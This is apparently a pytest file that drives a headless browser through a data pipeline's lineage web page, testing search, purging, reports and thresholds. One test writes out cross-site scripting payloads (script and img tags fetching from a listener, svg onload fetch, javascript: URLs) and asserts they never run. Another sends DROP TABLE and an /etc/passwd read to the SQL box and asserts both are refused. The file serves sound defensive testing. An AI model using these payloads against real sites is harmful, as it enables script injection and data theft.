"""The lineage page in a real headless Chromium: the ways that people go on it, and texts that are meant to
harm."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import pytest

from lineage.storage.folder import Folder
from tests.pipeline.page.conftest import EMAIL, HOSTILE, prose
from tests.support.outputs.lineage_query import query
from tests.support.outputs.runs import recipe, run
from tests.support.processes.served_page import Visitor, served


def doc_id_of(out: str, url: str) -> str:
    rows = query(Folder(out), "SELECT doc_id, url FROM documents").rows
    return next(str(doc_id) for doc_id, found in rows if found == url)


def test_a_takedown_by_mail_goes_from_its_urls_to_a_proof_on_paper(
    page: tuple[str, str], browser: Any
) -> None:
    from selenium.webdriver.common.by import By
    from selenium.webdriver.common.keys import Keys

    address, out = page
    browser.get(address)
    assert "token" not in browser.current_url, "the token must not stay in the address bar"
    base = browser.current_url
    # The first with a slash too many, the second with one too few.
    for url in (
        "https://web.example.org/page-1/",
        "https://web.example.org/people",
        "https://copy.example.org/of-3",
    ):
        browser.find_element(By.ID, "q").clear()
        browser.find_element(By.ID, "q").send_keys(url + "\n")
        browser.find_element(By.ID, "doc-id")
        browser.find_element(By.XPATH, "//button[starts-with(., 'Put this document')]").send_keys(Keys.ENTER)
        browser.find_element(By.LINK_TEXT, "basket")
        focused = browser.find_element(By.CSS_SELECTOR, "button:focus")
        assert focused.text == "Undo", "the focus stays where the button was"
    browser.get(f"{base}basket")
    assert len(browser.find_elements(By.CSS_SELECTOR, "#basket tr")) == 4
    browser.find_element(By.ID, "plan").click()
    planned = browser.find_element(By.ID, "plan-rows").text
    for url in ("https://web.example.org/page-3", "https://copy.example.org/of-3"):
        assert url in planned, "what repeats a text goes with it, and is shown before"
    assert EMAIL not in planned
    assert query(Folder(out), "SELECT count(*) FROM purges").rows == [(0,)], "a plan changes nothing"
    browser.find_element(By.ID, "by").send_keys("tester")
    browser.find_element(By.ID, "reason").send_keys("takedown by mail")
    browser.find_element(By.XPATH, "//button[starts-with(., 'Purge 4 documents')]").click()
    purge_id = browser.find_element(By.ID, "purge-id").text
    assert "All checks passed." in browser.find_element(By.ID, "proof").text
    assert query(Folder(out), 'SELECT purge_id, "by", reason, num_documents FROM purges').rows == [
        (purge_id, "tester", "takedown by mail", 4)
    ]
    printed = browser.execute_cdp_cmd("Page.printToPDF", {})["data"]
    assert len(printed) > 10_000
    browser.execute_cdp_cmd("Emulation.setEmulatedMedia", {"media": "print"})
    shown = browser.find_element(By.TAG_NAME, "main").text
    assert purge_id in shown and "takedown by mail" in shown and "Verify again" not in shown
    assert "Certificates of replays" in shown and "Working it out" not in shown
    # A part that is not there yet is loud on paper alone.
    browser.execute_script(
        "document.getElementById('main').insertAdjacentHTML('beforeend', '<p class=unfinished>NOT COMPLETE</p>')"
    )
    assert "NOT COMPLETE" in browser.find_element(By.TAG_NAME, "main").text
    browser.execute_cdp_cmd("Emulation.setEmulatedMedia", {"media": ""})
    assert "NOT COMPLETE" not in browser.find_element(By.TAG_NAME, "main").text
    browser.get(f"{base}basket")
    assert "Empty." in browser.find_element(By.TAG_NAME, "main").text


def test_a_strange_sample_leads_from_its_step_to_its_text_its_cluster_and_the_rule(
    shared_page: str, made: str, browser: Any
) -> None:
    from selenium.webdriver.common.by import By

    rows = query(
        Folder(made),
        "SELECT doc_id, url FROM documents WHERE cluster_id IS NOT NULL ORDER BY status <> 'kept'",
    )
    kept, url = str(rows.rows[0][0]), str(rows.rows[0][1])
    browser.get(shared_page)
    base = browser.current_url
    browser.get(f"{base}document/{kept}")
    link = browser.find_element(By.CSS_SELECTOR, "#exposures details a")
    browser.execute_script("arguments[0].closest('details').open = true", link)
    link.click()
    browser.find_element(By.CSS_SELECTOR, "main h1")
    if "/search" in browser.current_url:  # several documents share that row of the batch
        browser.find_element(By.LINK_TEXT, kept).click()
    assert prose(3)[:60] in browser.find_element(By.CSS_SELECTOR, "#texts .text").text
    assert "gopher_quality.too_few_words" in browser.find_element(By.ID, "decisions").text
    browser.find_element(By.LINK_TEXT, "what differs").click()
    assert "One more word" in browser.find_element(By.CSS_SELECTOR, "#difference del, #difference ins").text
    browser.find_element(By.LINK_TEXT, "Read the record again from its input").click()
    record = browser.find_element(By.CSS_SELECTOR, "#crawl .headers").text
    assert f"WARC-Target-URI: {url}" in record
    assert "Content-Type: text/html" in browser.find_elements(By.CSS_SELECTOR, "#crawl .headers")[1].text
    assert prose(3)[:60] in browser.find_element(By.CSS_SELECTOR, "#crawl .text").text
    measure = browser.find_element(By.LINK_TEXT, "Measure every rule again")
    # Selenium scrolls to nothing that is in the window, be it under the head that stays there.
    browser.execute_script("arguments[0].scrollIntoView({block: 'center', behavior: 'instant'})", measure)
    measure.click()
    assert "kept by every step" in browser.find_element(By.CSS_SELECTOR, "#decisions b.kept").text
    browser.find_element(By.LINK_TEXT, "Show the tokens with their ids").click()
    shown = browser.find_elements(By.CSS_SELECTOR, ".token code")
    text = "".join(token.get_attribute("textContent") for token in shown)
    assert prose(3)[:60] in text


def test_hostile_texts_run_nothing_and_fetch_nothing_on_any_page(tmp_path: Path, browser: Any) -> None:
    """Of web pages (URL, host, text), of whoever searches and of whoever purges."""
    from selenium.webdriver.common.by import By

    from tests.pipeline.page.test_access import listening

    with listening() as (other, heard):
        marks = [
            f'"><img src={other}image onerror=document.title="stolen">',
            f"'><script src={other}script></script>",
            f"</title></textarea></style><svg onload=fetch('{other}fetch')>",
            f"<link rel=stylesheet href={other}style><meta http-equiv=refresh"
            f" content='0;url={other}refresh'>",
            f"{{{{7*7}}}}${{7*7}}<iframe src={other}frame></iframe>\u202e\x00\x1b[31m",
            f"<p hx-get={other}htmx hx-trigger=load>",
        ]
        urls = [f"https://evil.example.org/{mark}" for mark in marks] + [f"javascript:fetch('{other}link')//"]
        posts = [
            {"url": url, "id": url, "text": f"{marks[n % len(marks)]} {prose(n)}"}
            for n, url in enumerate(urls)
        ]
        posts.append({"url": "https://evil.example.org/long", "id": "long", "text": "x" * 10_000_000})
        (tmp_path / "posts.jsonl").write_text("".join(json.dumps(post) + "\n" for post in posts))
        out = str(tmp_path / "out")
        tables: dict[str, Any] = {"run": {"keep_text": True}, "ray": {"address": "none"}}
        run(tmp_path, recipe(out, {"forum": (str(tmp_path / "posts.jsonl"),)}, **tables))
        rows = query(Folder(out), "SELECT doc_id, url FROM documents").rows
        assert len(rows) == len(posts)

        def check(place: str) -> None:
            assert browser.title != "stolen", place
            fetched = browser.execute_script(
                "return performance.getEntriesByType('resource').map(e => e.name)"
            )
            assert [name for name in fetched if not name.startswith(base)] == [], place
            own = f"script:not([src^='/{base.split('/', 3)[3]}static/'])"
            assert browser.find_elements(By.CSS_SELECTOR, f"{own}, iframe, img, [onerror], [onload]") == [], (
                place
            )
            assert "\u202e" not in browser.find_element(By.TAG_NAME, "body").text, place
            # At one moment, since a page puts pieces in their places meanwhile.
            links = browser.execute_script("return [...document.links].map(link => link.href)")
            assert [link for link in links if str(link).startswith("javascript:")] == [], place
            assert [
                e for e in browser.get_log("browser") if "Content Security Policy" in e["message"]
            ] == [], place

        with served(out) as address:
            browser.implicitly_wait(0)
            browser.get(address)
            base = browser.current_url
            check("front")
            for mark in [*marks, *urls]:
                browser.get(f"{base}search?{urlencode({'q': mark})}")
                check(f"search {mark}")
            browser.get(f"{base}search?q=evil.example.org")
            check("host")
            browser.get(f"{base}search?q=words:onload")
            check("words")
            for asked in (
                *marks,
                "SELECT doc_id, url, host FROM documents",
                "SELECT '<svg onload=1>' AS \"<b>\"",
            ):
                browser.get(f"{base}sql?{urlencode({'q': asked})}")
                check(f"sql {asked}")
            for doc_id, url in rows:
                browser.get(f"{base}document/{doc_id}")
                assert str(doc_id) in browser.page_source
                assert len(browser.page_source) < 2_000_000, url
                check("document")
            visitor = Visitor(address)
            visitor.post("basket", act="put", kind="lines", value="\n".join(str(row[0]) for row in rows[:2]))
            visitor.post("basket", act="put", kind="url", value=marks[2])
            visitor.post("sql", act="save", name=marks[0], q=f"SELECT '{marks[1]}'".replace("'>", ">"))
            browser.get(f"{base}sql")
            check("saved queries")
            browser.get(f"{base}basket")
            check("basket")
            browser.find_element(By.ID, "plan").click()
            browser.implicitly_wait(60)
            browser.find_element(By.ID, "by").send_keys(marks[0])
            browser.implicitly_wait(0)
            browser.find_element(By.ID, "reason").send_keys(marks[1])
            check("plan")
            browser.find_element(By.CSS_SELECTOR, "button.danger").click()
            browser.implicitly_wait(60)
            browser.find_element(By.ID, "purge-id")
            browser.implicitly_wait(0)
            check("purged")
            for place in ("", "purges", f"document/{rows[0][0]}", f"document/{urlencode({'a': marks[0]})}"):
                browser.get(base + place)
                check(f"after the purge: {place}")
        assert heard == [], "something was fetched"


def test_report_and_page_lead_to_each_other_and_figures_to_their_documents(
    shared_page: str, made: str, browser: Any
) -> None:
    from selenium.webdriver.common.by import By

    browser.get(shared_page + "&to=report")
    assert browser.current_url.endswith("/report") and "token" not in browser.current_url
    assert browser.find_element(By.CSS_SELECTOR, "header .command").text.startswith("sluice page ")
    browser.execute_script("for (const d of document.querySelectorAll('details')) d.open = true")
    link = browser.find_element(By.CSS_SELECTOR, "blockquote footer a[href^='document/']")
    doc_id = link.text
    link.click()
    assert browser.find_element(By.ID, "doc-id").text == doc_id
    browser.find_element(By.LINK_TEXT, "Sluice").click()
    browser.execute_script("for (const d of document.querySelectorAll('details')) d.open = true")
    figure = next(
        row.find_element(By.TAG_NAME, "a")
        for row in browser.find_elements(By.CSS_SELECTOR, "#funnel tr")
        if row.text.split()[1:2] == ["quality"]
    )
    num = int(figure.text)
    figure.click()
    assert len(browser.find_elements(By.CSS_SELECTOR, "#rows tr")) - 1 == num


def test_a_threshold_that_is_dragged_says_what_changes_and_the_command_to_run(
    shared_page: str, browser: Any
) -> None:
    from selenium.webdriver.common.by import By
    from selenium.webdriver.common.keys import Keys

    browser.get(shared_page + "&to=thresholds")
    rule = browser.find_element(By.ID, "gopher_quality.too_few_words")
    drag = rule.find_element(By.CSS_SELECTOR, "input[type=range]")
    num_out = len(rule.find_elements(By.CSS_SELECTOR, ".column i.out"))
    drag.send_keys(Keys.END)
    said = rule.find_element(By.TAG_NAME, "output").text
    assert "(-" in said, "a higher threshold keeps less"
    assert len(rule.find_elements(By.CSS_SELECTOR, ".column i.out")) < num_out
    field = rule.find_element(By.CSS_SELECTOR, "input[type=number]")
    at_end = field.get_attribute("value")
    assert f"threshold {at_end}:" in said.replace(",", "")
    drag.send_keys(Keys.HOME)
    assert float(str(field.get_attribute("value"))) < 50, "it can be loosened"
    for written, says in (
        ("50", "(as it is set)"),
        ("51.5", "threshold 51.5: the button tells"),
        (at_end, said),
    ):
        field.clear()
        field.send_keys(str(written))
        assert says in rule.find_element(By.TAG_NAME, "output").text
    rule.find_element(By.TAG_NAME, "button").click()
    call = rule.find_element(By.CSS_SELECTOR, ".run-call").text
    threshold = said.split()[1].rstrip(":").replace(",", "")
    assert call.startswith("sluice run ") and call.endswith(f"--set quality.min_words={threshold}")
    assert "then: " in rule.find_element(By.CSS_SELECTOR, ".tuned p").text


@pytest.mark.parametrize(
    "wrong", ["DROP TABLE documents", "SELECT * FROM read_csv('/etc/passwd')", "SELECT no FROM x"]
)
def test_the_sql_box_reads_and_never_writes(shared_page: str, wrong: str) -> None:
    answer = Visitor(shared_page).get(f"sql?{urlencode({'q': wrong})}")
    assert answer.status_code == 400 and "root:" not in answer.text and 'id="rows"' not in answer.text


def test_markup_in_a_url_is_shown_and_never_run(shared_page: str, made: str, browser: Any) -> None:
    from selenium.webdriver.common.by import By

    browser.get(shared_page + "&to=document/" + doc_id_of(made, HOSTILE))
    assert browser.find_element(By.TAG_NAME, "h1").text == HOSTILE
    assert "stolen" not in browser.title
